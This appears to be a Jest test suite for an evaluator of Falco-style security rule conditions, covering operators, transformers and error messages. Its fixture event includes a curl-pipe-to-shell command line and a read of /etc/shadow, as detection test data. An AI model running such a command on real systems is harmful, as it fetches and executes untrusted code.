import { matches } from './helpers';

describe('evaluator operators (libsinsp semantics)', () => {
  const bash = {
    'evt.type': 'execve',
    'proc.name': 'bash',
    'proc.cmdline': 'bash -c "curl http://x | sh"',
    'fd.name': '/etc/shadow',
    'proc.pid': 4242,
    'user.uid': '0',
    'fd.sport': 443,
    'fd.sip': '10.1.2.3',
    'fd.cip': '2001:db8::1',
    'fd.net': '10.1.2.3',
    'fd.snet': '2001:db8::7',
    'proc.is_exe_upper_layer': true,
    'evt.buffer': 'GET /index.html HTTP/1.1',
    'fd.types': ['ipv4', 'file'],
  };

  it.each([
    // strings
    ['proc.name = bash', true],
    ['proc.name == bash', true],
    ['proc.name = Bash', false],
    ['proc.name != bash', false],
    ['proc.name != sh', true],
    ['proc.cmdline contains "curl http"', true],
    ['proc.cmdline contains CURL', false],
    ['proc.cmdline icontains CURL', true],
    ['fd.name startswith /etc/', true],
    ['fd.name startswith /usr/', false],
    ['fd.name endswith shadow', true],
    ['fd.name endswith passwd', false],
    ['fd.name glob "/etc/*"', true],
    ['fd.name glob "/etc/sha?ow"', true],
    ['fd.name glob "/etc/[rs]hadow"', true],
    ['fd.name glob "/etc/[!s]hadow"', false],
    ['fd.name glob "/ETC/*"', false],
    ['fd.name iglob "/ETC/*"', true],
    ['fd.name regex "/etc/(shadow|gshadow)"', true],
    ['fd.name regex "shadow"', false], // the whole value must match
    ['proc.name in (sh, bash, zsh)', true],
    ['proc.name in (sh, zsh)', false],
    ['proc.name intersects (sh, bash)', true],
    ['fd.name pmatch (/etc, /usr/bin)', true],
    ['fd.name pmatch (/et)', false], // whole path components only
    ['fd.name pmatch (/etc/shadow)', true],
    ['fd.name pmatch (/e*/shadow)', true],
    // modifiers
    ['fd.name startswith anyof (/usr, /etc)', true],
    ['fd.name startswith allof (/, /etc)', true],
    ['fd.name startswith allof (/usr, /etc)', false],
    ['fd.name startswith oneof (/, /etc)', false],
    ['fd.name startswith oneof (/usr, /etc)', true],
    // numbers, parsed by the field's type
    ['proc.pid = 4242', true],
    ['proc.pid > 4000', true],
    ['proc.pid < 4000', false],
    ['proc.pid >= 4242', true],
    ['proc.pid <= 4241', false],
    ['proc.pid != 1', true],
    ['proc.pid in (1, 4242)', true],
    ['user.uid = 0', true], // a numeric string in the event is read as a number
    ['fd.sport in (80, 443)', true],
    // IP addresses and networks
    ['fd.sip = 10.1.2.3', true],
    ['fd.sip = 10.1.2.4', false],
    ['fd.sip != 10.1.2.4', true],
    ['fd.sip in (192.168.0.1, 10.1.2.3)', true],
    ['fd.cip = "2001:db8:0:0:0:0:0:1"', true],
    ['fd.net = 10.0.0.0/8', true],
    ['fd.net = 192.168.0.0/16', false],
    ['fd.net != 192.168.0.0/16', true],
    ['fd.net in (192.168.0.0/16, 10.1.0.0/16)', true],
    ['fd.snet = "2001:db8::/32"', true],
    ['fd.snet = 10.0.0.0/8', false], // an IPv6 address is in no IPv4 network
    // booleans
    ['proc.is_exe_upper_layer = true', true],
    ['proc.is_exe_upper_layer = false', false],
    ['proc.is_exe_upper_layer != false', true],
    // byte buffers: bcontains/bstartswith take hex
    ['evt.buffer bcontains 2f696e646578', true],
    ['evt.buffer bstartswith 474554', true],
    ['evt.buffer bstartswith 504f5354', false],
    ['evt.buffer contains index', true],
    // list fields: `in` needs every value in the set, `intersects` one
    ['fd.types in (ipv4, file, unix)', true],
    ['fd.types in (ipv4)', false],
    ['fd.types intersects (ipv4)', true],
    ['fd.types intersects (unix)', false],
    // exists
    ['proc.name exists', true],
    ['fd.types exists', true],
  ])('%s -> %s', (condition, expected) => {
    expect(matches(condition, bash)).toBe(expected);
  });

  it.each([
    ['tolower(proc.name) = bash', { 'proc.name': 'BaSh' }, true],
    ['toupper(proc.name) = BASH', { 'proc.name': 'bash' }, true],
    ['basename(proc.exepath) = curl', { 'proc.exepath': '/usr/bin/curl' }, true],
    ['basename(proc.exepath) = curl', { 'proc.exepath': 'curl' }, true],
    ['b64(proc.env[SECRET]) = hello', { 'proc.env[SECRET]': 'aGVsbG8=' }, true],
    ['b64(proc.env[SECRET]) = hello', { 'proc.env[SECRET]': 'aGVsbG8' }, true],
    ['b64(proc.env[SECRET]) exists', { 'proc.env[SECRET]': 'not base64!' }, false],
    ['len(proc.name) = 4', { 'proc.name': 'bash' }, true],
    ['len(proc.name) > 10', { 'proc.name': 'bash' }, false],
    ['len(fd.types) = 2', { 'fd.types': ['ipv4', 'file'] }, true],
    ['tolower(toupper(proc.name)) = bash', { 'proc.name': 'Bash' }, true],
    ['join(",", (proc.name, proc.pname)) = "bash,sshd"', { 'proc.name': 'bash', 'proc.pname': 'sshd' }, true],
    ['concat(proc.name, "-", proc.pname) = "bash-sshd"', { 'proc.name': 'bash', 'proc.pname': 'sshd' }, true],
    ['getopt(fd.types, "xo:")[o] = out', { 'fd.types': ['-x', '-o', 'out', 'file'] }, true],
    ['getopt(fd.types, "xo:")[o] = out', { 'fd.types': ['-xoout'] }, true],
    ['getopt(fd.types, "xo:")[x] = x', { 'fd.types': ['-x', '-o', 'out'] }, true],
    ['getopt(fd.types, "xo:")[x] exists', { 'fd.types': ['file', '-x'] }, false], // options stop at the first operand
    ['getopt(fd.types, "xo:") intersects ("?")', { 'fd.types': ['-z'] }, true],
    ['getopt(fd.types, "xo:") in (x, o, out)', { 'fd.types': ['-x', '-o', 'out', '--', '-z'] }, true],
  ])('transformer: %s on %j -> %s', (condition, event, expected) => {
    expect(matches(condition, event)).toBe(expected);
  });

  it.each([
    ['proc.name = val(proc.pname)', { 'proc.name': 'bash', 'proc.pname': 'bash' }, true],
    ['proc.name = val(proc.pname)', { 'proc.name': 'bash', 'proc.pname': 'sshd' }, false],
    ['proc.name != val(proc.pname)', { 'proc.name': 'bash', 'proc.pname': 'sshd' }, true],
    ['proc.name = val(proc.pname)', { 'proc.name': 'bash' }, false],
    ['proc.pid > val(proc.ppid)', { 'proc.pid': 10, 'proc.ppid': 9 }, true],
    ['proc.pid > val(proc.ppid)', { 'proc.pid': 10, 'proc.ppid': 11 }, false],
    ['tolower(proc.name) = tolower(proc.pname)', { 'proc.name': 'Bash', 'proc.pname': 'BASH' }, true],
    ['proc.name in val(proc.pname)', { 'proc.name': 'bash', 'proc.pname': 'bash' }, true],
  ])('right-hand field: %s on %j -> %s', (condition, event, expected) => {
    expect(matches(condition, event)).toBe(expected);
  });

  it.each([
    ['proc.aname[2] = sshd', { 'proc.aname[2]': 'sshd' }, true],
    ['proc.aname[2] = sshd', { 'proc.aname': ['bash', 'sshd', 'systemd'] }, true],
    ['proc.aname[1] = sshd', { 'proc.pname': 'sshd' }, true],
    ['proc.aname[0] = bash', { 'proc.name': 'bash' }, true],
    ['proc.aname = systemd', { 'proc.aname': ['bash', 'sshd', 'systemd'] }, true],
    ['proc.aname = cron', { 'proc.aname': ['bash', 'sshd', 'systemd'] }, false],
    ['proc.aname in (cron, sshd)', { 'proc.aname': ['bash', 'sshd', 'systemd'] }, true],
    ['evt.arg.flags contains O_CREAT', { 'evt.arg.flags': 'O_WRONLY|O_CREAT' }, true],
    ['evt.arg.flags contains O_CREAT', { 'evt.arg[flags]': 'O_WRONLY|O_CREAT' }, true],
    ['evt.arg[flags] contains O_CREAT', { 'evt.arg.flags': 'O_WRONLY|O_CREAT' }, true],
    ['proc.env[HOME] = /root', { 'proc.env[HOME]': '/root' }, true],
  ])('field argument: %s on %j -> %s', (condition, event, expected) => {
    expect(matches(condition, event)).toBe(expected);
  });

  it('rejects an operator the field type does not support, naming the rule', () => {
    expect(() => matches('proc.pid contains 1', {})).toThrow(/rule 'r'.*'contains' operator not supported for numeric filters \(field 'proc.pid' is INT64\)/);
    expect(() => matches('fd.types = ipv4', {})).toThrow(/'=' operator not supported list filters \(field 'fd.types' is a list of CHARBUF\)/);
  });

  it('rejects a value that is not of the field type', () => {
    expect(() => matches('proc.pid = abc', {})).toThrow(/EVAL_BAD_VALUE.*'abc' is not a number/);
    expect(() => matches('fd.net = 10.0.0.1', {})).toThrow(/not an IP network in CIDR notation/);
    expect(() => matches('evt.buffer bcontains xyz', {})).toThrow(/hex strings only/);
  });

  it('rejects a field argument on a transformer that takes none', () => {
    expect(() => matches('tolower(proc.name)[1] = x', {})).toThrow(/transformer 'tolower' does not support field arguments/);
  });

  it('rejects unresolved macros and lists', () => {
    expect(() => matches('spawned_process', {})).toThrow(/EVAL_UNRESOLVED rule 'r': macro 'spawned_process' is not resolved/);
    expect(() => matches('proc.name in shell_binaries', {})).toThrow(/list 'shell_binaries' is not resolved/);
  });
});
